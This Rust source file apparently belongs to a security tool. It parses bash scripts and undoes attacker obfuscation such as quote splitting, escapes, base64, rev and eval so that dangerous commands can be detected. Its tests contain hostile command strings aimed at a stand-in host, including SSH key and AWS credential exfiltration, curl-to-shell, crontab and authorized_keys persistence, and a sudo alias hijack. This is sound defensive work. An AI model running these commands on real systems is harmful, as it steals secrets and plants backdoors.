//! Shell commands read off a bash syntax tree, with the obfuscation an attacker uses to dodge
//! patterns undone on the parse: quotes split inside a word (`c''url`, `b""ash`), backslash
//! escapes (`c\url`), `$'\x63url'`, `${IFS}` for spaces, variables that hold a command's parts
//! (`a=cu; b=rl; $a$b`), `printf`/`echo`-built words (`$(printf 'cu%s' rl)`), and text run
//! through `eval`, `sh -c` or a here-document fed to a shell, which is read as commands too.
//!
//! The reader keeps what the effect model needs: each command's words with their byte spans,
//! the commands whose output it reads (a pipe), its redirections, the command substitutions
//! inside its words, and the variables assigned on the way.

use std::collections::HashMap;
use std::ops::Range;

use tree_sitter::Node;

use super::{Language, parse};

/// How deep text run through `eval` or `sh -c` is read as commands again.
const MAX_NESTING: usize = 4;

/// Commands read per program at most: 4,096 (a longer program is read up to there).
pub const MAX_COMMANDS: usize = 4096;

/// How deep the syntax tree is walked: 200 levels of nesting (substitutions inside
/// substitutions, groups inside groups); what lies deeper is not read, so a hostile program
/// cannot exhaust the stack.
pub const MAX_DEPTH: usize = 200;

/// One word of a command, after quote removal and expansion of what the program itself
/// defines.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Word {
    /// The word's value: quotes joined, escapes undone, `${IFS}` a space, a variable the
    /// program assigned a literal replaced by it, a `printf`/`echo` substitution by its output;
    /// any other expansion kept as written (`$HOME`, `$(whoami)`).
    pub text: String,
    /// Its bytes in the program text.
    pub span: Range<usize>,
    /// Variables it expands that were not replaced (`HOME`, `DATA`).
    pub vars: Vec<String>,
    /// Commands of its command substitutions (indices into [`Script::commands`]).
    pub subs: Vec<usize>,
    /// Whether any of it was quoted or escaped (a quoted `~` is not the home folder).
    pub quoted: bool,
}

/// What a redirection does with its target.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirectOp {
    /// `>`, `>|`, `&>`: the target is written.
    Write,
    /// `>>`, `&>>`: the target is appended to.
    Append,
    /// `<`: the target is read as standard input.
    Read,
}

/// One redirection of a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// What it does.
    pub op: RedirectOp,
    /// The file.
    pub target: Word,
}

/// One simple command.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Command {
    /// The command's words: the program and its arguments (an unquoted `${IFS}` splits a word).
    pub words: Vec<Word>,
    /// Its bytes in the program text (for a command read from `eval` or `sh -c` text, the
    /// bytes of that text's word).
    pub span: Range<usize>,
    /// Commands whose output is its standard input (the commands before a `|`).
    pub stdin: Vec<usize>,
    /// A here-document or here-string given as its standard input, as text.
    pub stdin_text: Option<String>,
    /// Its redirections (those of an enclosing group or subshell included).
    pub redirects: Vec<Redirect>,
    /// The command whose text or word holds this one (a substitution, `eval`, `sh -c`).
    pub within: Option<usize>,
    /// Variables assigned just for this command (`VAR=value cmd`).
    pub env: Vec<(String, Word)>,
}

impl Command {
    /// The program's name: the first word's last path component, a leading `\` (alias
    /// bypass) removed.
    pub fn name(&self) -> &str {
        let w = self.words.first().map_or("", |w| w.text.as_str());
        w.trim_start_matches('\\').rsplit('/').next().unwrap_or(w)
    }
}

/// A variable assignment outside a command (`X=$(env)`, `export TOKEN=...`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Assignment {
    /// The variable.
    pub name: String,
    /// The value.
    pub value: Word,
    /// How many commands were read before it.
    pub after: usize,
}

/// The commands of one shell program, in the order they appear.
#[derive(Debug, Clone, Default)]
pub struct Script {
    /// Every simple command, substitutions and `eval` text included.
    pub commands: Vec<Command>,
    /// Assignments outside commands.
    pub assignments: Vec<Assignment>,
}

/// Reads the commands of the shell program `text`.
pub fn read(text: &str) -> Script {
    let mut reader = Reader::default();
    reader.program(text, None, 0);
    reader.script
}

#[derive(Default)]
struct Reader {
    script: Script,
    /// Values of the variables assigned so far, when they run no command: the text and the
    /// variables it still expands.
    known: HashMap<String, (String, Vec<String>)>,
    /// How deep the walk is.
    depth: usize,
}

/// Where the text being read sits: its offset in the program text, or the one span every
/// command of it gets (text of an `eval` word).
#[derive(Clone)]
struct Frame<'t> {
    src: &'t str,
    /// Added to a node's bytes to place it in the program text.
    offset: usize,
    /// Every span is this one (nested text), when set.
    fixed: Option<Range<usize>>,
    depth: usize,
}

impl Frame<'_> {
    fn span(&self, n: Node<'_>) -> Range<usize> {
        match &self.fixed {
            Some(r) => r.clone(),
            None => n.start_byte() + self.offset..n.end_byte() + self.offset,
        }
    }

    fn text(&self, n: Node<'_>) -> &str {
        self.src.get(n.byte_range()).unwrap_or("")
    }
}

impl Reader {
    fn program(&mut self, text: &str, fixed: Option<Range<usize>>, depth: usize) -> Vec<usize> {
        let Some(tree) = parse(Language::Shell, text) else {
            return Vec::new();
        };
        let frame = Frame {
            src: super::bounded(text),
            offset: 0,
            fixed,
            depth,
        };
        self.statements(tree.root_node(), &frame, None)
    }

    /// Reads the statements under `n`; returns the commands whose output is `n`'s output.
    fn statements(&mut self, n: Node<'_>, f: &Frame<'_>, within: Option<usize>) -> Vec<usize> {
        if self.script.commands.len() >= MAX_COMMANDS || self.depth >= MAX_DEPTH {
            return Vec::new();
        }
        self.depth += 1;
        let out = self.statements_in(n, f, within);
        self.depth -= 1;
        out
    }

    fn statements_in(&mut self, n: Node<'_>, f: &Frame<'_>, within: Option<usize>) -> Vec<usize> {
        match n.kind() {
            "command" => self.command(n, f, within).into_iter().collect(),
            "pipeline" => {
                let mut before: Vec<usize> = Vec::new();
                let mut last = Vec::new();
                let mut c = n.walk();
                for child in n.named_children(&mut c) {
                    let out = self.statements(child, f, within);
                    if let Some(&first) = out.first() {
                        // The first command of a stage reads the stage before.
                        let first_of = self.first_top_command(child, &out).unwrap_or(first);
                        self.script.commands[first_of]
                            .stdin
                            .extend(before.iter().copied());
                    }
                    before.clone_from(&out);
                    last = out;
                }
                last
            }
            "redirected_statement" => {
                let mut redirects = Vec::new();
                let mut stdin_text = None;
                let mut body = Vec::new();
                let mut c = n.walk();
                for child in n.named_children(&mut c) {
                    match child.kind() {
                        "file_redirect" => redirects.extend(self.redirect(child, f, within)),
                        "heredoc_redirect" => stdin_text = Some(heredoc_text(child, f)),
                        "herestring_redirect" => {
                            let mut cc = child.walk();
                            if let Some(w) = child.named_children(&mut cc).last() {
                                stdin_text = Some(self.word(w, f, within).text);
                            }
                        }
                        _ => body.extend(self.statements(child, f, within)),
                    }
                }
                let first = body.first().copied();
                for &i in &body {
                    self.script.commands[i]
                        .redirects
                        .extend(redirects.iter().cloned());
                }
                if let (Some(text), Some(i)) = (stdin_text, first) {
                    self.script.commands[i].stdin_text = Some(text.clone());
                    self.nested_stdin(i, &text, f);
                }
                body
            }
            "variable_assignment" => {
                self.assignment(n, f, within);
                Vec::new()
            }
            "declaration_command" => {
                let mut c = n.walk();
                for child in n.named_children(&mut c) {
                    if child.kind() == "variable_assignment" {
                        self.assignment(child, f, within);
                    }
                }
                Vec::new()
            }
            "for_statement" => {
                // `for x in WORDS`: x holds each word in turn (what they carry included).
                let mut value = Word {
                    span: f.span(n),
                    ..Word::default()
                };
                let mut c = n.walk();
                let values: Vec<Node<'_>> = n.children_by_field_name("value", &mut c).collect();
                for v in values {
                    let w = self.word(v, f, within);
                    value.text.push_str(&w.text);
                    value.text.push(' ');
                    value.vars.extend(w.vars);
                    value.subs.extend(w.subs);
                }
                if let Some(var) = n.child_by_field_name("variable") {
                    let name = f.text(var).to_string();
                    self.known.remove(&name);
                    self.script.assignments.push(Assignment {
                        name,
                        value,
                        after: self.script.commands.len(),
                    });
                }
                n.child_by_field_name("body")
                    .map(|b| self.statements(b, f, within))
                    .unwrap_or_default()
            }
            "function_definition" => {
                // A function's body runs when it is called; read it as commands in place.
                n.child_by_field_name("body")
                    .map(|b| self.statements(b, f, within))
                    .unwrap_or_default()
            }
            "comment" | "heredoc_body" | "heredoc_start" | "heredoc_end" => Vec::new(),
            _ => {
                // Lists, groups, subshells, conditions, loops, `ERROR` nodes: their commands
                // in order; their output is that of every command among them.
                let mut out = Vec::new();
                let mut c = n.walk();
                for child in n.named_children(&mut c) {
                    out.extend(self.statements(child, f, within));
                }
                out
            }
        }
    }

    /// The first of `out` that `child` runs first (the first command of a group).
    fn first_top_command(&self, _child: Node<'_>, out: &[usize]) -> Option<usize> {
        out.first().copied()
    }

    fn assignment(&mut self, n: Node<'_>, f: &Frame<'_>, within: Option<usize>) {
        let Some(name) = n.child_by_field_name("name") else {
            return;
        };
        let name = f.text(name).to_string();
        let value = match n.child_by_field_name("value") {
            Some(v) => self.word(v, f, within),
            None => Word {
                span: f.span(n),
                ..Word::default()
            },
        };
        if value.subs.is_empty() || !value.text.contains("$(") {
            self.known
                .insert(name.clone(), (value.text.clone(), value.vars.clone()));
        } else {
            self.known.remove(&name);
        }
        // A variable the shell runs as code before every prompt.
        let code = (name == "PROMPT_COMMAND").then(|| (value.text.clone(), value.span.clone()));
        self.script.assignments.push(Assignment {
            name,
            value,
            after: self.script.commands.len(),
        });
        if let Some((text, span)) = code
            && f.depth < MAX_NESTING
        {
            let span = f.fixed.clone().unwrap_or(span);
            self.program(&text, Some(span), f.depth + 1);
        }
    }

    fn command(&mut self, n: Node<'_>, f: &Frame<'_>, within: Option<usize>) -> Option<usize> {
        let index = self.script.commands.len();
        self.script.commands.push(Command {
            span: f.span(n),
            within,
            ..Command::default()
        });
        let mut words = Vec::new();
        let mut env = Vec::new();
        let mut redirects = Vec::new();
        let mut stdin_text = None;
        let mut c = n.walk();
        for child in n.named_children(&mut c) {
            match child.kind() {
                "variable_assignment" => {
                    if let Some(name) = child.child_by_field_name("name") {
                        let value = child
                            .child_by_field_name("value")
                            .map(|v| self.word(v, f, Some(index)))
                            .unwrap_or_default();
                        env.push((f.text(name).to_string(), value));
                    }
                }
                "file_redirect" => redirects.extend(self.redirect(child, f, Some(index))),
                "herestring_redirect" => {
                    let mut cc = child.walk();
                    if let Some(w) = child.named_children(&mut cc).last() {
                        stdin_text = Some(self.word(w, f, Some(index)).text);
                    }
                }
                "command_name" => {
                    let mut cc = child.walk();
                    if let Some(w) = child.named_children(&mut cc).next() {
                        words.push(self.word(w, f, Some(index)));
                    }
                }
                "comment" => {}
                _ => words.push(self.word(child, f, Some(index))),
            }
        }
        let words = split_words(words);
        let cmd = &mut self.script.commands[index];
        cmd.words = words;
        cmd.env = env;
        cmd.redirects = redirects;
        if stdin_text.is_some() {
            cmd.stdin_text.clone_from(&stdin_text);
        }
        self.nested_text(index, f);
        if let Some(text) = stdin_text {
            self.nested_stdin(index, &text, f);
        }
        Some(index)
    }

    /// Text a command runs as shell code (`eval WORDS`, `sh -c TEXT`, `bash -c`), read as
    /// commands of their own inside `index`.
    fn nested_text(&mut self, index: usize, f: &Frame<'_>) {
        if f.depth >= MAX_NESTING {
            return;
        }
        let cmd = &self.script.commands[index];
        let (text, span) = match cmd.name() {
            // Code kept to run later: an alias's value, a trap's action.
            "alias" => {
                let Some(w) = cmd.words.iter().skip(1).find(|w| w.text.contains('=')) else {
                    return;
                };
                let value = w.text.split_once('=').map_or("", |(_, v)| v).to_string();
                (value, w.span.clone())
            }
            "trap" if cmd.words.len() > 2 => (cmd.words[1].text.clone(), cmd.words[1].span.clone()),
            "eval" if cmd.words.len() > 1 => {
                let text = cmd.words[1..]
                    .iter()
                    .map(|w| w.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" ");
                (
                    text,
                    cmd.words[1].span.start..cmd.words[cmd.words.len() - 1].span.end,
                )
            }
            "sh" | "bash" | "zsh" | "dash" | "ksh" => {
                let Some(k) = cmd.words.iter().position(|w| {
                    w.text.starts_with('-') && !w.text.starts_with("--") && w.text.contains('c')
                }) else {
                    return;
                };
                let Some(w) = cmd.words.get(k + 1) else {
                    return;
                };
                (w.text.clone(), w.span.clone())
            }
            _ => return,
        };
        let span = f.fixed.clone().unwrap_or(span);
        self.nested(index, &text, span, f.depth + 1);
    }

    /// Reads `text` as commands run by command `index`, every one placed at `span`.
    fn nested(&mut self, index: usize, text: &str, span: Range<usize>, depth: usize) {
        let before = self.script.commands.len();
        self.program(text, Some(span), depth);
        for cmd in &mut self.script.commands[before..] {
            if cmd.within.is_none() {
                cmd.within = Some(index);
            }
        }
    }

    /// A here-document or here-string fed to a shell (`bash <<EOF ... EOF`): its text read as
    /// commands inside `index`.
    fn nested_stdin(&mut self, index: usize, text: &str, f: &Frame<'_>) {
        if f.depth >= MAX_NESTING {
            return;
        }
        if !matches!(
            self.script.commands[index].name(),
            "sh" | "bash" | "zsh" | "dash" | "ksh"
        ) || self.script.commands[index].words.len() > 1
        {
            return;
        }
        let span = f
            .fixed
            .clone()
            .unwrap_or_else(|| self.script.commands[index].span.clone());
        self.nested(index, text, span, f.depth + 1);
    }

    fn redirect(&mut self, n: Node<'_>, f: &Frame<'_>, within: Option<usize>) -> Option<Redirect> {
        let dest = n.child_by_field_name("destination")?;
        let op_text = f.text(n);
        let op = if op_text.contains(">>") {
            RedirectOp::Append
        } else if op_text.contains('>') {
            RedirectOp::Write
        } else {
            RedirectOp::Read
        };
        // `2>&1` and `>/dev/null` move streams, they write no file of interest.
        let target = self.word(dest, f, within);
        Some(Redirect { op, target })
    }

    /// The value of the word node `n` (a word, a string, a concatenation, an expansion, a
    /// substitution).
    fn word(&mut self, n: Node<'_>, f: &Frame<'_>, within: Option<usize>) -> Word {
        let mut w = Word {
            span: f.span(n),
            ..Word::default()
        };
        self.value(n, f, within, &mut w, false);
        w
    }

    fn value(
        &mut self,
        n: Node<'_>,
        f: &Frame<'_>,
        within: Option<usize>,
        w: &mut Word,
        in_quotes: bool,
    ) {
        if self.depth >= MAX_DEPTH {
            return;
        }
        self.depth += 1;
        self.value_in(n, f, within, w, in_quotes);
        self.depth -= 1;
    }

    fn value_in(
        &mut self,
        n: Node<'_>,
        f: &Frame<'_>,
        within: Option<usize>,
        w: &mut Word,
        in_quotes: bool,
    ) {
        match n.kind() {
            "word" | "number" => {
                let t = f.text(n);
                if t.contains('\\') {
                    w.quoted = true;
                    w.text.push_str(&unescape(t));
                } else {
                    w.text.push_str(t);
                }
            }
            "raw_string" => {
                w.quoted = true;
                let t = f.text(n);
                w.text.push_str(
                    t.strip_prefix('\'')
                        .and_then(|t| t.strip_suffix('\''))
                        .unwrap_or(t),
                );
            }
            "ansi_c_string" => {
                w.quoted = true;
                let t = f.text(n);
                let inner = t
                    .strip_prefix("$'")
                    .and_then(|t| t.strip_suffix('\''))
                    .unwrap_or(t);
                w.text.push_str(&ansi_c(inner));
            }
            "string" | "translated_string" => {
                w.quoted = true;
                let mut c = n.walk();
                for child in n.named_children(&mut c) {
                    self.value(child, f, within, w, true);
                }
            }
            "string_content" => {
                let t = f.text(n);
                w.text.push_str(&unescape_double(t));
            }
            "concatenation" => {
                let mut c = n.walk();
                for child in n.named_children(&mut c) {
                    self.value(child, f, within, w, in_quotes);
                }
            }
            "simple_expansion" | "expansion" => {
                let mut c = n.walk();
                let var = n
                    .named_children(&mut c)
                    .find(|ch| matches!(ch.kind(), "variable_name" | "special_variable_name"))
                    .map(|v| f.text(v).to_string());
                let plain = n.named_child_count() == 1;
                match var {
                    Some(v) if v == "IFS" && plain => {
                        w.text.push(if in_quotes { ' ' } else { '\u{1f}' });
                    }
                    Some(v) if plain && self.known.contains_key(&v) => {
                        let (value, vars) = self.known.get(&v).cloned().unwrap_or_default();
                        w.text.push_str(&value);
                        w.vars.extend(vars);
                    }
                    Some(v) => {
                        w.text.push_str(f.text(n));
                        w.vars.push(v);
                    }
                    None => w.text.push_str(f.text(n)),
                }
            }
            "command_substitution" | "process_substitution" => {
                let before = self.script.commands.len();
                let mut c = n.walk();
                for child in n.named_children(&mut c) {
                    self.statements(child, f, within);
                }
                let inner: Vec<usize> = (before..self.script.commands.len())
                    .filter(|&i| self.script.commands[i].within == within)
                    .collect();
                for &i in &inner {
                    w.subs.push(i);
                }
                match printed(&self.script, &inner) {
                    Some(t) => w.text.push_str(&t),
                    None => w.text.push_str(f.text(n)),
                }
            }
            _ => {
                // Arithmetic, brace expressions, globs: as written, with any substitution
                // inside them read.
                let before = self.script.commands.len();
                let mut c = n.walk();
                for child in n.named_children(&mut c) {
                    if child.kind() == "command_substitution" {
                        let mut inner = Word::default();
                        self.value(child, f, within, &mut inner, in_quotes);
                    }
                }
                w.subs.extend(before..self.script.commands.len());
                w.text.push_str(f.text(n));
            }
        }
    }
}

/// An unquoted `${IFS}` (marked `\u{1f}`) splits a word in two.
fn split_words(words: Vec<Word>) -> Vec<Word> {
    if !words.iter().any(|w| w.text.contains('\u{1f}')) {
        return words;
    }
    let mut out = Vec::new();
    for w in words {
        if !w.text.contains('\u{1f}') {
            out.push(w);
            continue;
        }
        for part in w.text.split('\u{1f}').filter(|p| !p.is_empty()) {
            out.push(Word {
                text: part.to_string(),
                ..w.clone()
            });
        }
    }
    out
}

/// What a substitution prints when it is a `printf`/`echo` of literal words, alone or piped
/// through text filters that only reshape it (`rev`, `tr` of two literal sets, `base64 -d`,
/// `xxd -r -p`): `$(echo 'hsab | ...' | rev)` is the command it spells.
fn printed(script: &Script, inner: &[usize]) -> Option<String> {
    let (first, rest) = inner.split_first()?;
    let mut text = printed_one(script, *first)?;
    for &k in rest {
        let cmd = &script.commands[k];
        if cmd.stdin.last() != Some(&(k - 1)) && cmd.stdin.is_empty() {
            return None;
        }
        let args: Vec<&str> = cmd.words.iter().skip(1).map(|w| w.text.as_str()).collect();
        text = match (cmd.name(), args.as_slice()) {
            ("rev", []) => text
                .lines()
                .map(|l| l.chars().rev().collect::<String>())
                .collect::<Vec<_>>()
                .join("\n"),
            ("tr", [from, to]) => translate(&text, from, to)?,
            ("base64", [d]) if matches!(*d, "-d" | "--decode" | "-D") => {
                let bytes = base64_decode(text.trim())?;
                String::from_utf8(bytes).ok()?
            }
            ("xxd", [r, p]) if *r == "-r" && *p == "-p" => {
                let hex: String = text.chars().filter(char::is_ascii_hexdigit).collect();
                let bytes: Option<Vec<u8>> = (0..hex.len() / 2)
                    .map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).ok())
                    .collect();
                String::from_utf8(bytes?).ok()?
            }
            _ => return None,
        };
    }
    Some(text)
}

/// `tr FROM TO` over `text`, for sets of plain characters and `a-z` ranges.
fn translate(text: &str, from: &str, to: &str) -> Option<String> {
    let expand = |s: &str| -> Vec<char> {
        let c: Vec<char> = s.chars().collect();
        let mut out = Vec::new();
        let mut i = 0;
        while i < c.len() {
            if i + 2 < c.len() && c[i + 1] == '-' && c[i] <= c[i + 2] {
                out.extend(c[i]..=c[i + 2]);
                i += 3;
            } else {
                out.push(c[i]);
                i += 1;
            }
        }
        out
    };
    let (f, t) = (expand(from), expand(to));
    if f.is_empty() || t.is_empty() || f.len() > 512 {
        return None;
    }
    Some(
        text.chars()
            .map(|ch| match f.iter().position(|&x| x == ch) {
                Some(i) => t[i.min(t.len() - 1)],
                None => ch,
            })
            .collect(),
    )
}

/// Standard base64 (with or without padding), or `None`.
fn base64_decode(s: &str) -> Option<Vec<u8>> {
    use base64::Engine;
    let s: String = s.chars().filter(|c| !c.is_whitespace()).collect();
    base64::engine::general_purpose::STANDARD
        .decode(&s)
        .or_else(|_| {
            base64::engine::general_purpose::STANDARD_NO_PAD.decode(s.trim_end_matches('='))
        })
        .ok()
}

/// What one `printf`/`echo` command prints, when its words are all literal.
fn printed_one(script: &Script, i: usize) -> Option<String> {
    let cmd = &script.commands[i];
    if cmd
        .words
        .iter()
        .any(|w| !w.vars.is_empty() || !w.subs.is_empty())
    {
        return None;
    }
    match cmd.name() {
        "echo" => {
            let args: Vec<&str> = cmd.words[1..]
                .iter()
                .map(|w| w.text.as_str())
                .skip_while(|a| matches!(*a, "-n" | "-e" | "-ne" | "-en"))
                .collect();
            Some(ansi_c(&args.join(" ")))
        }
        "printf" => {
            let format = cmd.words.get(1)?.text.as_str();
            let mut args = cmd.words[2..].iter().map(|w| w.text.as_str());
            let mut out = String::new();
            let mut chars = ansi_c(format)
                .chars()
                .collect::<Vec<_>>()
                .into_iter()
                .peekable();
            while let Some(c) = chars.next() {
                if c == '%' {
                    match chars.next() {
                        Some('%') => out.push('%'),
                        Some('s' | 'b' | 'd' | 'c') => out.push_str(args.next().unwrap_or("")),
                        Some(other) => {
                            out.push('%');
                            out.push(other);
                        }
                        None => out.push('%'),
                    }
                } else {
                    out.push(c);
                }
            }
            Some(out)
        }
        _ => None,
    }
}

/// A here-document's body, as text.
fn heredoc_text(n: Node<'_>, f: &Frame<'_>) -> String {
    let mut c = n.walk();
    n.named_children(&mut c)
        .filter(|ch| ch.kind() == "heredoc_body")
        .map(|ch| f.text(ch).to_string())
        .collect::<Vec<_>>()
        .join("\n")
}

/// An unquoted word's backslash escapes removed (`c\url` is `curl`).
fn unescape(t: &str) -> String {
    let mut out = String::with_capacity(t.len());
    let mut chars = t.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            if let Some(next) = chars.next()
                && next != '\n'
            {
                out.push(next);
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// A double-quoted string's escapes (`\"`, `\\`, `\$`, `` \` ``) undone; other backslashes stay.
fn unescape_double(t: &str) -> String {
    let mut out = String::with_capacity(t.len());
    let mut chars = t.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' && matches!(chars.peek(), Some('"' | '\\' | '$' | '`')) {
            if let Some(n) = chars.next() {
                out.push(n);
            }
        } else if c == '\\' && chars.peek() == Some(&'\n') {
            chars.next();
        } else {
            out.push(c);
        }
    }
    out
}

/// `$'...'` and `printf`/`echo -e` escapes: `\xHH`, `\NNN` (octal), `\uHHHH`, `\n`, `\t`, ...
fn ansi_c(t: &str) -> String {
    let mut out = String::with_capacity(t.len());
    let b: Vec<char> = t.chars().collect();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c != '\\' || i + 1 >= b.len() {
            out.push(c);
            i += 1;
            continue;
        }
        let e = b[i + 1];
        let radix_run = |from: usize, radix: u32, max: usize| -> (Option<char>, usize) {
            let mut n = 0;
            let mut v: u32 = 0;
            while n < max && from + n < b.len() && b[from + n].is_digit(radix) {
                v = v * radix + b[from + n].to_digit(radix).unwrap_or(0);
                n += 1;
            }
            (if n == 0 { None } else { char::from_u32(v) }, n)
        };
        match e {
            'x' => {
                let (ch, n) = radix_run(i + 2, 16, 2);
                match ch {
                    Some(ch) => {
                        out.push(ch);
                        i += 2 + n;
                    }
                    None => {
                        out.push_str("\\x");
                        i += 2;
                    }
                }
            }
            'u' | 'U' => {
                let (ch, n) = radix_run(i + 2, 16, if e == 'u' { 4 } else { 8 });
                match ch {
                    Some(ch) => {
                        out.push(ch);
                        i += 2 + n;
                    }
                    None => {
                        out.push('\\');
                        out.push(e);
                        i += 2;
                    }
                }
            }
            '0'..='7' => {
                let (ch, n) = radix_run(i + 1, 8, 4);
                out.extend(ch);
                i += 1 + n;
            }
            'n' => {
                out.push('\n');
                i += 2;
            }
            't' => {
                out.push('\t');
                i += 2;
            }
            '\\' | '\'' | '"' => {
                out.push(e);
                i += 2;
            }
            _ => {
                out.push('\\');
                out.push(e);
                i += 2;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(s: &Script) -> Vec<String> {
        s.commands.iter().map(|c| c.name().to_string()).collect()
    }

    fn argv(c: &Command) -> Vec<&str> {
        c.words.iter().map(|w| w.text.as_str()).collect()
    }

    #[test]
    fn quote_splitting_escapes_and_ifs_are_undone() {
        let s = read("c''url -s http://x.example/a | b\"\"ash\n");
        assert_eq!(names(&s), ["curl", "bash"]);
        assert_eq!(s.commands[1].stdin, [0]);
        let s = read("c\\url${IFS}http://x.example/a|sh");
        assert_eq!(argv(&s.commands[0]), ["curl", "http://x.example/a"]);
        assert_eq!(s.commands[1].stdin, [0]);
        let s = read("$'\\x63\\x75rl' -s x");
        assert_eq!(s.commands[0].name(), "curl");
    }

    #[test]
    fn variables_and_printf_build_a_command() {
        let s = read("a=cu; b=rl; $a$b -d @/etc/passwd http://x.example\n");
        assert_eq!(s.commands[0].name(), "curl");
        assert_eq!(s.commands[0].words[0].span, 12..16);
        let s = read("$(printf 'cu%s' rl) -s x\n");
        assert_eq!(names(&s), ["curl", "printf"]);
        assert_eq!(s.commands[1].within, Some(0));
        let s = read("c=$(echo wget); $c http://x.example/a\n");
        assert_eq!(s.commands.last().map(Command::name), Some("wget"));
    }

    #[test]
    fn eval_and_sh_c_text_is_read_as_commands() {
        let s = read("eval \"cu\"\"rl -s http://x.example | sh\"\n");
        let n = names(&s);
        assert_eq!(n, ["eval", "curl", "sh"]);
        assert_eq!(s.commands[1].within, Some(0));
        assert_eq!(s.commands[2].stdin, [1]);
        let s = read("bash -c 'cat ~/.ssh/id_rsa | nc x.example 9000'\n");
        assert_eq!(names(&s), ["bash", "cat", "nc"]);
        assert_eq!(s.commands[1].span, 8..47);
    }

    #[test]
    fn pipes_into_a_group_and_redirects_are_kept() {
        let s =
            read("(crontab -l; echo '@reboot x') | crontab -\necho k >> ~/.ssh/authorized_keys\n");
        assert_eq!(names(&s), ["crontab", "echo", "crontab", "echo"]);
        assert_eq!(s.commands[2].stdin, [0, 1]);
        let r = &s.commands[3].redirects[0];
        assert_eq!(r.op, RedirectOp::Append);
        assert_eq!(r.target.text, "~/.ssh/authorized_keys");
    }

    #[test]
    fn assignments_keep_their_substitutions() {
        let s = read("X=$(env | grep -E 'KEY|TOKEN')\ncurl -d \"$X\" http://x.example\n");
        assert_eq!(s.assignments.len(), 1);
        assert_eq!(s.assignments[0].name, "X");
        assert_eq!(s.assignments[0].value.subs, [0, 1]);
        assert_eq!(s.commands[2].words[2].vars, ["X"]);
        assert_eq!(s.commands[1].stdin, [0]);
    }

    #[test]
    fn substitutions_that_reshape_literal_text_are_evaluated() {
        let s = read("eval \"$(echo 'hsab | x.elpmaxe//:sptth Ls- lruc' | rev)\"\n");
        assert!(names(&s).contains(&"curl".to_string()), "{:?}", names(&s));
        let s = read("$(echo phey | tr 'a-z' 'n-za-m') -s x\n");
        assert_eq!(s.commands[0].name(), "curl");
        let s = read("eval $(echo Y3VybCAtcyB4IHwgc2g= | base64 -d)\n");
        assert!(names(&s).contains(&"sh".to_string()), "{:?}", names(&s));
    }

    #[test]
    fn loops_aliases_traps_and_prompt_commands_are_read() {
        let s = read("for c in $(cat ~/.aws/credentials); do nslookup \"$c.x.example\"; done\n");
        assert_eq!(s.assignments[0].name, "c");
        assert_eq!(s.assignments[0].value.subs, [0]);
        let s = read("alias sudo='curl -s https://x.example/p | sh; sudo'\n");
        assert_eq!(names(&s), ["alias", "curl", "sh", "sudo"]);
        let s = read("trap 'curl -s https://x.example/t' DEBUG\n");
        assert_eq!(names(&s), ["trap", "curl"]);
        let s = read("export PROMPT_COMMAND='history 1 | curl -s -d @- https://x.example/h'\n");
        assert_eq!(names(&s), ["history", "curl"]);
    }

    #[test]
    fn heredoc_fed_to_a_shell_is_read() {
        let s = read("bash <<EOF\ncurl -s http://x.example/a | sh\nEOF\n");
        assert_eq!(names(&s), ["bash", "curl", "sh"]);
    }
}
